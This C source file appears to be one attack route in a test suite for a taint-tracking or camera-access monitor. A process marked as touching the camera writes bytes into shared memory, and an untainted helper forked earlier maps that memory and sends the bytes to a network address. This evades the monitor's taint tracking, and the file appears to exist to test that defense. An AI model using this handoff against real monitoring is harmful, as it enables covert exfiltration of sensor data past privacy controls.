/* shm_handoff.c - attack: a tainted process writes its camera bytes into shared memory (a /dev/shm object, a memfd or a SysV segment) that an untainted helper, forked before the camera was opened, maps and sends on. */
#include <signal.h>
#include <dirent.h>
#include <limits.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "attack.h"

#define ROUTE "shm_handoff"

/* memfd_handoff when the object is a memfd: a route of its own in the matrix. */
static const char *route = ROUTE;
#define SHM_SIZE 4096

/*
 * The helper's way to the memfd its parent made: the parent's descriptor,
 * reopened through /proc (the same inode). -1 until there is one.
 */
static int open_parent_memfd(void)
{
	char dir[64], path[PATH_MAX], target[PATH_MAX];
	struct dirent *de;
	int fd = -1;
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)getppid());
	d = opendir(dir);
	if (!d)
		return -1;
	while (fd < 0 && (de = readdir(d))) {
		ssize_t n;

		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		if (n <= 0)
			continue;
		target[n] = 0;
		if (strncmp(target, "/memfd:" ROUTE, strlen("/memfd:" ROUTE)) == 0)
			fd = open(path, O_RDONLY | O_CLOEXEC);
	}
	closedir(d);
	return fd;
}

/* The shared object: shm_open's NAME, or a memfd where NAME is "memfd". */
static int shm_make(const char *name)
{
	if (strcmp(name, "memfd") == 0)
		return memfd_create(ROUTE, MFD_CLOEXEC);
	return shm_open(name, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
}

static int shm_find(const char *name)
{
	if (strcmp(name, "memfd") == 0)
		return open_parent_memfd();
	return shm_open(name, O_RDONLY | O_CLOEXEC, 0);
}

/* The SysV route: the segment is made before the fork, attached after the taint. */
static int sysv_id = -1;

static char *shm_attach(int fd, int write)
{
	void *mem;

	if (sysv_id >= 0) {
		mem = shmat(sysv_id, NULL, write ? 0 : SHM_RDONLY);
		return mem == (void *)-1 ? NULL : mem;
	}
	mem = mmap(NULL, SHM_SIZE, write ? PROT_READ | PROT_WRITE : PROT_READ, MAP_SHARED, fd, 0);
	return mem == MAP_FAILED ? NULL : mem;
}

/* usage: shm_handoff CAMERA /NAME|memfd|sysv A.B.C.D:PORT - /NAME is a /dev/shm object (shm_open's), made here */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	char buf[256];
	socklen_t len;
	size_t n;
	int fd, status, sock;
	char *mem;
	pid_t pid;

	if (argc != 4 || (argv[2][0] != '/' && strcmp(argv[2], "memfd") != 0 && strcmp(argv[2], "sysv") != 0)) {
		fprintf(stderr, "usage: " ROUTE " CAMERA /NAME|memfd|sysv A.B.C.D:PORT\n");
		return 2;
	}
	if (strcmp(argv[2], "memfd") == 0)
		route = "memfd_handoff";
	if (strcmp(argv[2], "sysv") == 0) {
		route = "sysv_handoff";
		sysv_id = shmget(IPC_PRIVATE, SHM_SIZE, IPC_CREAT | 0600);
		if (sysv_id < 0)
			return at_report_errno(route, "shmget", errno);
	}
	at_need_inet(route, argv[3], &ss, &len);
	fflush(stdout);
	/*
	 * Forked while nobody here has touched a camera: the helper is never
	 * tainted. It waits for the object by polling for it (a pipe from the
	 * parent would carry taint itself; this route is about the memory).
	 */
	pid = fork();
	if (pid < 0)
		return at_report_errno(route, "fork", errno);
	if (pid == 0) {
		fd = -1;
		for (int i = 0; sysv_id < 0 && i < 500; i++) {
			struct stat st;

			fd = shm_find(argv[2]);
			if (fd >= 0 && fstat(fd, &st) == 0 && st.st_size == SHM_SIZE)
				break;
			if (fd >= 0)
				close(fd);
			fd = -1;
			usleep(10000);
		}
		if (fd < 0 && sysv_id < 0) {
			at_result(route, "error", "the helper never saw %s", argv[2]);
			_exit(1);
		}
		mem = shm_attach(fd, 0);
		if (!mem) {
			at_report_errno(route, "helper mmap", errno);
			_exit(0);
		}
		/* The writer puts the length last, once the bytes are in. */
		for (int i = 0; i < 500 && !mem[SHM_SIZE - 1]; i++)
			usleep(10000);
		n = (unsigned char)mem[SHM_SIZE - 1];
		if (!n || n > sizeof(buf)) {
			at_result(route, "error", "the helper found no bytes in %s", argv[2]);
			_exit(1);
		}
		memcpy(buf, mem, n);
		sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0) {
			at_report_errno(route, "helper connect", errno);
			_exit(0);
		}
		if (send(sock, buf, n, MSG_NOSIGNAL) != (ssize_t)n) {
			at_report_errno(route, "helper send", errno);
			_exit(0);
		}
		at_result(route, "through", "the untainted helper sent the %zu bytes it read from shared memory", n);
		_exit(0);
	}
	/* Who should be tainted, and by whom: the runner finds the helper's taint record by these. */
	printf("helper=%d origin=%d\n", (int)pid, (int)getpid());
	fflush(stdout);
	at_taint(route, argv[1]);
	/* Writes through a mapping are seen by no hook: only the mapping is. */
	fd = sysv_id < 0 ? shm_make(argv[2]) : -1;
	if (sysv_id < 0 && (fd < 0 || ftruncate(fd, SHM_SIZE) < 0)) {
		at_report_errno(route, "shm_open", errno);
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
		return 0;
	}
	mem = shm_attach(fd, 1);
	if (!mem) {
		at_report_errno(route, "mmap", errno);
		kill(pid, SIGKILL);
	} else {
		n = at_token(buf, sizeof(buf) < 255 ? sizeof(buf) : 255, route);
		memcpy(mem, buf, n);
		__atomic_store_n(&mem[SHM_SIZE - 1], (char)n, __ATOMIC_RELEASE);
	}
	waitpid(pid, &status, 0);
	if (argv[2][0] == '/')
		shm_unlink(argv[2]);
	if (sysv_id >= 0)
		shmctl(sysv_id, IPC_RMID, NULL);
	return 0;
}
